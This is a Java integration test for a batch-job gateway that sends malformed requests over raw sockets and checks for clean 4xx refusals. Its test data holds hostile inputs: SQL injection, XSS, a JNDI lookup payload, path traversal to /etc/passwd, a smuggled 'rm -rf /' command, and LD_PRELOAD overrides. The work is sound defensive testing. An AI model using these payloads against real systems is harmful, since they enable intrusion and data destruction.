package io.batchgate.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.core.StreamReadFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Generated malformed requests — injection strings and unicode edge cases in every place a caller
 * controls, wrong types, oversized and duplicated input, broken auth — sent as raw bytes over a
 * socket, so nothing on the client side cleans them up. Every answer must be a 4xx problem+json
 * without internals, no run may appear, and the audit trail must hold exactly one refusal record
 * for each audited call and nothing else.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class MalformedRequestsTests extends GatewayIntegrationTests {

    /** Hostile or odd strings; each is tried in every place a caller controls. */
    private static final List<String> HOSTILE = List.of(
            "' OR '1'='1",
            "1; DROP TABLE bg_run; --",
            "\" onmouseover=\"alert(1)",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "${jndi:ldap://example.invalid/a}",
            "%s%s%s%n",
            "\u202Egnp.exe",
            "😀😀😀",
            "ｆｕｌｌｗｉｄｔｈ",
            "x".repeat(9000),
            "NaN",
            "-0",
            "9".repeat(40),
            "Ω≈ç√∫",
            "e\u0301\u0301\u0301",
            "\uFEFFbom");

    /** Strings the web server refuses in a path before any application code sees them. */
    private static final List<String> SERVER_REFUSED_IN_PATH = List.of("../../../../etc/passwd", "a\\b", "nul\u0000");

    private static final String TOKEN = GatewayTestSupport.TOKEN;

    @Autowired
    JdbcClient jdbc;

    private long runsBefore;
    private long auditBefore;
    private int audited;
    private int sent;

    record Case(String method, String target, Map<String, String> headers, byte[] body, int status, boolean audit) {

        /** The same request without a token: refused with 401, which is audited. */
        Case withoutToken() {
            Map<String, String> without = new LinkedHashMap<>(headers);
            without.remove("Authorization");
            return new Case(method, target, without, body, status, true);
        }

        @Override
        public String toString() {
            String shown = method + " " + target;
            return shown.length() > 90 ? shown.substring(0, 90) + "…" : shown;
        }
    }

    static Stream<Arguments> cases() {
        List<Case> cases = new ArrayList<>();
        for (String s : HOSTILE) {
            String path = enc(s);
            // an encoded slash in a path is refused by the web server itself, before routing
            boolean reachesApp = !s.contains("/");
            int missing = reachesApp ? 404 : 400;
            cases.add(post("/api/v1/jobs/" + path + "/runs", json("{}"), missing, reachesApp));
            cases.add(post("/api/v1/jobs/typed/runs", json(paramsJson("NUMBER", "3", "NAME", s)), 400, true));
            cases.add(post("/api/v1/jobs/typed/runs", form("NUMBER=" + enc(s)), 400, true));
            cases.add(post(
                    "/api/v1/jobs/typed/runs",
                    json("{\"params\":{" + quote(s) + ":\"x\",\"NUMBER\":\"3\"}}"),
                    400,
                    true));
            cases.add(get("/api/v1/runs/" + path, missing));
            cases.add(get("/api/v1/runs?status=" + enc(s), 400));
            cases.add(get("/api/v1/runs?cursor=" + enc(s), 400));
            cases.add(post(
                    "/api/v1/runs/" + path + "/cancel",
                    new Body("application/json", new byte[0]),
                    missing,
                    reachesApp));
        }
        for (String s : SERVER_REFUSED_IN_PATH) {
            String path = enc(s);
            cases.add(post("/api/v1/jobs/" + path + "/runs", json("{}"), 400, false));
            cases.add(get("/api/v1/runs/" + path, 400));
        }
        String typed = "/api/v1/jobs/typed/runs";
        // structure and types
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":{\"nested\":1}}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":[1,2]}}"), 400, true));
        cases.add(post(typed, json("{\"params\":[\"NUMBER\",\"3\"]}"), 400, true));
        cases.add(post(typed, json("[{\"params\":{}}]"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"}} trailing"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\",\"NUMBER\":\"4\"}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"},\"params\":{}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":1e400}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":null}}"), 400, true));
        cases.add(post(typed, json("[".repeat(5000) + "]".repeat(5000)), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"},\"command\":[\"rm\",\"-rf\",\"/\"]}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"},\"env\":{\"LD_PRELOAD\":\"x\"}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\",\"LD_PRELOAD\":\"/tmp/x.so\"}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\",\"PATH\":\"/tmp\"}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\",\"BATCHGATE_RUN_ID\":\"x\"}}"), 400, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"}"), 400, true));
        cases.add(post(typed, json(""), 400, true));
        cases.add(post(
                typed,
                new Body("application/json", new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}),
                400,
                true));
        cases.add(post(
                typed,
                new Body("application/x-www-form-urlencoded", "NUMBER=%C3%28".getBytes(StandardCharsets.ISO_8859_1)),
                400,
                true));
        cases.add(post(typed, form("NUMBER=%zz"), 400, true));
        cases.add(post(typed, form("NUMBER=3&NUMBER=4"), 400, true));
        cases.add(post(typed, form("number=3"), 400, true));
        cases.add(post(
                typed,
                new Body("text/xml", "<params><NUMBER>3</NUMBER></params>".getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(
                typed,
                new Body("multipart/form-data; boundary=x", "--x--".getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        // multipart is not accepted at all: however broken the body, the answer is 415, never a 500
        cases.add(post(typed, new Body("multipart/form-data", "NUMBER=3".getBytes(StandardCharsets.UTF_8)), 415, true));
        cases.add(post(
                typed,
                new Body(
                        "multipart/form-data; boundary=xyz",
                        "--xyz\r\nContent-Disposition: form-data; name=\"NUMBER\"\r\n\r\n3"
                                .getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(
                typed,
                new Body(
                        "multipart/form-data; boundary=xyz",
                        "\u0000\u00ff garbage --abc\r\n\r\n--".getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(
                typed,
                new Body(
                        "multipart/form-data; boundary=xyz",
                        ("--xyz\r\nContent-Disposition: form-data; name=\"NUMBER\"\r\nX-Pad: " + "p".repeat(60_000)
                                        + "\r\n\r\n3\r\n--xyz--\r\n")
                                .getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(
                typed,
                new Body(
                        "multipart/mixed; boundary=\"" + "b".repeat(5000) + "\"",
                        "--".getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(
                "/api/v1/runs/" + "0".repeat(8) + "/cancel",
                new Body("multipart/form-data", "reason=x".getBytes(StandardCharsets.UTF_8)),
                404,
                true));
        cases.add(post(
                typed,
                new Body("application/json; charset=ISO-8859-1", "{}".getBytes(StandardCharsets.UTF_8)),
                415,
                true));
        cases.add(post(typed, new Body("not a type", "{}".getBytes(StandardCharsets.UTF_8)), 415, true));
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"" + "1".repeat(70_000) + "\"}}"), 413, true));
        StringBuilder many = new StringBuilder("NUMBER=3");
        for (int i = 0; i < 100; i++) {
            many.append("&P").append(i).append("=x");
        }
        cases.add(post(typed, form(many.toString()), 400, true));
        cases.add(post(typed, form("NUMBER=3&NAME=" + "a".repeat(8193)), 400, true));
        cases.add(post(typed, form("NUMBER=0"), 400, true));
        cases.add(post(typed, form("NUMBER=11"), 400, true));
        cases.add(post(typed, form("NUMBER=3&DAY=2026-02-30"), 400, true));
        cases.add(post(typed, form("NUMBER=3&FLAG=yes"), 400, true));
        cases.add(post(typed, form("NUMBER=3&MODE=FULL"), 400, true));
        // control parameters and keys
        for (String control : List.of(
                "wait=-1",
                "wait=abc",
                "wait=3601",
                "abandonAfter=0",
                "abandonAfter=2",
                "abandonAfter=1e3",
                "dryRun=maybe",
                "wait=1&wait=2",
                "follow=true",
                "Wait=1")) {
            cases.add(post(typed + "?" + control, form("NUMBER=3"), 400, true));
        }
        cases.add(withHeader(post(typed, form("NUMBER=3"), 400, true), "Idempotency-Key", "has space"));
        cases.add(withHeader(post(typed, form("NUMBER=3"), 400, true), "Idempotency-Key", "k".repeat(256)));
        cases.add(withHeader(post(typed, form("NUMBER=3"), 400, true), "Execution-Key", "has space"));
        cases.add(get("/actuator/%70rometheus", 401).withoutToken());
        cases.add(get("/actuator/prometheus;x=1", 401).withoutToken());
        cases.add(get("/api;x=1/v1/jobs", 401).withoutToken());
        cases.add(get("/%61pi/v1/jobs", 401).withoutToken());
        cases.add(post(typed, json("{\"params\":{\"NUMBER\":\"3\"},\"idempotencyKey\":7}"), 400, true));
        // authentication
        for (String authorization : List.of(
                "",
                "Basic Y2k6Y2k=",
                "Bearer",
                "Bearer ",
                "Bearer " + "t".repeat(2000),
                "Bearer " + TOKEN + "x",
                "Token " + TOKEN,
                "Bearer\t" + TOKEN + "\u00e9")) {
            cases.add(new Case(
                    "POST",
                    typed,
                    headers("Authorization", authorization, "Content-Type", "application/x-www-form-urlencoded"),
                    form("NUMBER=3").bytes(),
                    401,
                    true));
        }
        cases.add(new Case("GET", "/api/v1/runs", headers("Authorization", null), new byte[0], 401, true));
        // methods and unknown routes
        cases.add(new Case("PUT", typed, headers(), new byte[0], 405, false));
        cases.add(new Case("DELETE", "/api/v1/runs", headers(), new byte[0], 405, false));
        cases.add(get("/api/v1/nothing-here", 404));
        cases.add(get("/api/v1/audit?limit=-5", 400));
        cases.add(get("/api/v1/runs?limit=100000", 400));
        cases.add(get("/api/v1/runs?job=hello&job=exit-with", 400));
        return cases.stream().map(c -> Arguments.of(c));
    }

    private final ch.qos.logback.classic.Logger rootLogger =
            (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    private final ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> logged =
            new ch.qos.logback.core.read.ListAppender<>();

    @BeforeAll
    void countBefore() {
        runsBefore = count("bg_run");
        auditBefore = count("bg_audit");
        logged.list = new java.util.concurrent.CopyOnWriteArrayList<>(); // appended to by other threads
        logged.start();
        rootLogger.addAppender(logged);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("cases")
    void everyMalformedRequestGetsA4xxProblemWithoutInternals(Case request) {
        Raw answer = send(request);
        sent++;
        if (request.audit()) {
            audited++;
        }
        assertThat(answer.status()).as(answer.text()).isEqualTo(request.status());
        assertThat(answer.header("content-type")).as(answer.text()).startsWith("application/problem+json");
        // strictly: RFC 9457 members appear once (a duplicate "status" is refused here)
        JsonNode problem = JsonMapper.builder()
                .enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
                .build()
                .readTree(answer.body());
        assertThat(answer.body()).as("ends with a newline").endsWith("}\n");
        assertThat(problem.get("status").asInt()).isEqualTo(request.status());
        assertThat(problem.get("type").asString()).startsWith("/problems/");
        assertThat(problem.get("title").asString()).isNotBlank();
        String lower = answer.body().toLowerCase(Locale.ROOT);
        for (String internal : List.of(
                "exception",
                "\tat ",
                "sql",
                "org.h2",
                "java.",
                "springframework",
                "insert ",
                "select ",
                "tomcat",
                "jackson",
                "stacktrace",
                "trace")) {
            assertThat(lower).as("no internals in " + answer.body()).doesNotContain(internal);
        }
    }

    /** A refusal is the caller's mistake, not the gateway's: nothing of it is logged as an error. */
    @AfterAll
    void nothingWasLoggedAsAnError() {
        rootLogger.detachAppender(logged);
        assertThat(logged.list)
                .filteredOn(event -> event.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.ERROR))
                .filteredOn(event -> GatewayTestSupport.onTheRequestPath(event.getLoggerName()))
                .extracting(event -> event.getLoggerName() + ": " + event.getFormattedMessage())
                .isEmpty();
    }

    @AfterAll
    void nothingWasStoredButOneRefusalRecordPerAuditedCall() {
        assertThat(sent).isGreaterThanOrEqualTo(100);
        assertThat(count("bg_run")).isEqualTo(runsBefore);
        List<Map<String, Object>> records = jdbc.sql("SELECT run_id, http_status FROM bg_audit ORDER BY id")
                .query()
                .listOfRows();
        List<Map<String, Object>> fresh = records.subList((int) auditBefore, records.size());
        assertThat(fresh).hasSize(audited);
        assertThat(fresh).allSatisfy(record -> {
            assertThat(record.get("RUN_ID") == null ? record.get("run_id") : record.get("RUN_ID"))
                    .isNull();
            Object status = record.get("HTTP_STATUS") == null ? record.get("http_status") : record.get("HTTP_STATUS");
            assertThat(((Number) status).intValue()).isBetween(400, 499);
        });
    }

    private long count(String table) {
        return jdbc.sql("SELECT COUNT(*) FROM " + table).query(Long.class).single();
    }

    // ------------------------------------------------------------------ building and sending

    record Body(String contentType, byte[] bytes) {}

    private static Case post(String target, Body body, int status, boolean audit) {
        return new Case("POST", target, headers("Content-Type", body.contentType()), body.bytes(), status, audit);
    }

    private static Case get(String target, int status) {
        return new Case("GET", target, headers(), new byte[0], status, false);
    }

    private static Case withHeader(Case c, String name, String value) {
        Map<String, String> headers = new LinkedHashMap<>(c.headers());
        headers.put(name, value);
        return new Case(c.method(), c.target(), headers, c.body(), c.status(), c.audit());
    }

    private static Map<String, String> headers(String... pairs) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + TOKEN);
        for (int i = 0; i < pairs.length; i += 2) {
            if (pairs[i + 1] == null) {
                headers.remove(pairs[i]);
            } else {
                headers.put(pairs[i], pairs[i + 1]);
            }
        }
        return headers;
    }

    private static Body json(String text) {
        return new Body("application/json", text.getBytes(StandardCharsets.UTF_8));
    }

    private static Body form(String text) {
        return new Body("application/x-www-form-urlencoded", text.getBytes(StandardCharsets.UTF_8));
    }

    private static String paramsJson(String... pairs) {
        StringBuilder json = new StringBuilder("{\"params\":{");
        for (int i = 0; i < pairs.length; i += 2) {
            json.append(i == 0 ? "" : ",").append(quote(pairs[i])).append(':').append(quote(pairs[i + 1]));
        }
        return json.append("}}").toString();
    }

    private static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        text.codePoints().forEach(c -> {
            if (c == '"' || c == '\\') {
                quoted.append('\\').appendCodePoint(c);
            } else if (c < 0x20) {
                quoted.append(String.format("\\u%04x", c));
            } else {
                quoted.appendCodePoint(c);
            }
        });
        return quoted.append('"').toString();
    }

    private static String enc(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    record Raw(int status, Map<String, String> headers, String body) {
        String header(String name) {
            return headers.getOrDefault(name, "");
        }

        String text() {
            return status + " " + headers + "\n" + body;
        }
    }

    /** One request as raw bytes over a socket; the answer read to the end (Connection: close). */
    private Raw send(Case request) {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(30_000);
            ByteArrayOutputStream head = new ByteArrayOutputStream();
            head.writeBytes(
                    (request.method() + " " + request.target() + " HTTP/1.1\r\n").getBytes(StandardCharsets.UTF_8));
            head.writeBytes(("Host: 127.0.0.1:" + port + "\r\nConnection: close\r\n").getBytes(StandardCharsets.UTF_8));
            for (Map.Entry<String, String> header : request.headers().entrySet()) {
                head.writeBytes((header.getKey() + ": " + header.getValue() + "\r\n").getBytes(StandardCharsets.UTF_8));
            }
            head.writeBytes(("Content-Length: " + request.body().length + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            OutputStream out = socket.getOutputStream();
            out.write(head.toByteArray());
            out.write(request.body());
            out.flush();
            InputStream in = socket.getInputStream();
            String response = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            int split = response.indexOf("\r\n\r\n");
            String[] lines = response.substring(0, split).split("\r\n");
            Map<String, String> headers = new LinkedHashMap<>();
            for (int i = 1; i < lines.length; i++) {
                int colon = lines[i].indexOf(':');
                headers.put(
                        lines[i].substring(0, colon).toLowerCase(Locale.ROOT),
                        lines[i].substring(colon + 1).strip());
            }
            String body = response.substring(split + 4);
            if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
                body = unchunk(body);
            }
            return new Raw(Integer.parseInt(lines[0].split(" ")[1]), headers, body);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String unchunk(String chunked) {
        StringBuilder body = new StringBuilder();
        int at = 0;
        while (true) {
            int eol = chunked.indexOf("\r\n", at);
            int size = Integer.parseInt(chunked.substring(at, eol).trim(), 16);
            if (size == 0) {
                return body.toString();
            }
            // sizes count bytes; re-encode to slice by bytes
            byte[] rest = chunked.substring(eol + 2).getBytes(StandardCharsets.UTF_8);
            String piece = new String(rest, 0, size, StandardCharsets.UTF_8);
            body.append(piece);
            at = eol + 2 + piece.length() + 2;
        }
    }
}
